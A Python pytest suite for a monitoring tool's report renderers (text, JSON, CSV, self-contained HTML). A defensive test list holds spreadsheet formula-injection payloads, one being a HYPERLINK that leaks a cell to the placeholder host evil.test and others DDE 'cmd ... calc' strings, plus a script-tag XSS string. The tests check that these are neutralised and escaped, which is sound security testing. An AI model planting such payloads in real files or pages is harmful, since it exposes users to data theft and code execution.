"""Text, JSON and CSV renderings of a known data set; summaries computed by hand."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from report_rows import api_hour, open_issue, queue_hour

from supabase_monitoring.errors import InvalidInputError
from supabase_monitoring.report import (
    ReportData,
    render_html,
    render_text,
    report_to_csv,
    report_to_dict,
)
from supabase_monitoring.report.collect import report_window
from supabase_monitoring.report.svg import nice_step

T0 = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)


def data() -> ReportData:
    return ReportData(
        generated_at=T0 + timedelta(hours=1, minutes=30),
        since=T0,
        hours=2,
        queues=[
            queue_hour("ingest", T0, 10, 90, 10, 100.0, 100),
            queue_hour("ingest", T0 + timedelta(hours=1), 30, 200, 0, 200.0, 200),
        ],
        apis=[
            api_hour("stripe", T0, 40, 30, 10, 50.0, 400.0),
            api_hour("stripe", T0 + timedelta(hours=1), 10, 10, 0, 100.0, 900.0),
        ],
        issues=[open_issue("i-1", "w", "stuck", "critical", 'a "quoted", message', T0)],
        overall_status="warning",
    )


def test_summaries() -> None:
    (q,) = data().queue_summaries()
    assert (q.batches, q.messages, q.errors) == (40, 300, 10)
    assert q.error_rate == pytest.approx(10 / 300)
    assert q.avg_processing_time_ms == pytest.approx((100 * 10 + 200 * 30) / 40)
    (a,) = data().api_summaries()
    assert (a.calls, a.errors) == (50, 10)
    assert a.error_rate == pytest.approx(0.2)
    assert a.avg_success_time_ms == pytest.approx((50 * 30 + 100 * 10) / 40)
    assert a.max_p95_time_ms == 900.0


def test_text_tables() -> None:
    text = render_text(data())
    assert "Overall status: warning" in text
    line = next(ln for ln in text.splitlines() if ln.startswith("ingest"))
    assert line.split() == ["ingest", "40", "300", "10", "3.33%", "175.0"]
    line = next(ln for ln in text.splitlines() if ln.startswith("stripe"))
    assert line.split() == ["stripe", "50", "10", "20.00%", "62.5", "900.0"]
    assert "Open issues (1)" in text


def test_json_round_trips_and_keeps_hourly_rows() -> None:
    doc = json.loads(json.dumps(report_to_dict(data())))
    assert doc["overall_status"] == "warning"
    assert doc["apis"][0]["error_rate"] == pytest.approx(0.2)
    assert [r["error_rate"] for r in doc["hourly"]["apis"]] == [0.25, 0.0]
    assert doc["hourly"]["queues"][0]["hour"] == T0.isoformat()
    assert doc["open_issues"][0]["id"] == "i-1"


def test_csv_sections_and_quoting() -> None:
    rows = list(csv.DictReader(io.StringIO(report_to_csv(data()))))
    assert [r["section"] for r in rows] == ["queue", "queue", "api", "api", "issue"]
    assert rows[2]["p95_ms"] == "400.0"
    assert rows[0]["error_rate"] == "0.1"
    assert rows[4]["message"] == 'a "quoted", message'


HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def test_csv_neutralises_formula_cells_from_hostile_names() -> None:
    hostile = ReportData(
        generated_at=T0,
        since=T0,
        hours=1,
        queues=[queue_hour(name, T0, 1, 1, 0, 1.0, 1) for name in HOSTILE],
        apis=[api_hour(name, T0, 1, 1, 0, 1.0, 1.0) for name in HOSTILE],
        issues=[open_issue(name, name, name, "critical", name, T0) for name in HOSTILE],
    )
    rows = list(csv.DictReader(io.StringIO(report_to_csv(hostile), newline="")))
    assert len(rows) == 3 * len(HOSTILE)  # a CR or LF in a name does not split its row
    text_columns = ("name", "issue_type", "message", "id")
    cells = [r[c] for r in rows for c in text_columns if r[c]]
    assert len(cells) == len(HOSTILE) * (2 + 4)
    for cell in cells:
        assert cell[0] == "'", cell
        assert cell[1:] in HOSTILE  # quoted, not altered: nothing the worker wrote is lost


def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
    rows = list(csv.DictReader(io.StringIO(report_to_csv(data()))))
    assert rows[0]["name"] == "ingest"
    assert rows[4]["id"] == "i-1"
    assert rows[0]["avg_ms"] == "100.0"


def test_html_is_self_contained_and_escapes_data_in_the_embedded_json() -> None:
    nasty = ReportData(
        generated_at=T0,
        since=T0,
        hours=1,
        issues=[open_issue("x", "w", "t", "error", "</script><script>alert(1)</script>", T0)],
    )
    page = render_html(nasty)
    assert "</script><script>alert(1)" not in page
    assert page.count("<script") == 2  # the data block and the one hashed script
    for needle in ("src=", "href=", "@import", "url("):
        assert needle not in page


@pytest.mark.parametrize("hours", [0, 169, -1])
def test_report_window_bounds(hours: int) -> None:
    with pytest.raises(InvalidInputError, match="hours"):
        report_window(hours)


def test_report_window_covers_n_hourly_buckets() -> None:
    since, now = report_window(3, T0 + timedelta(minutes=42))
    assert since == T0 - timedelta(hours=2)
    assert now == T0 + timedelta(minutes=42)


@pytest.mark.parametrize(
    ("span", "step"), [(0.9, 0.5), (0.7, 0.2), (7, 2.0), (100, 50.0), (0.0, 1.0), (1234, 500.0)]
)
def test_nice_step(span: float, step: float) -> None:
    assert nice_step(span) == pytest.approx(step)
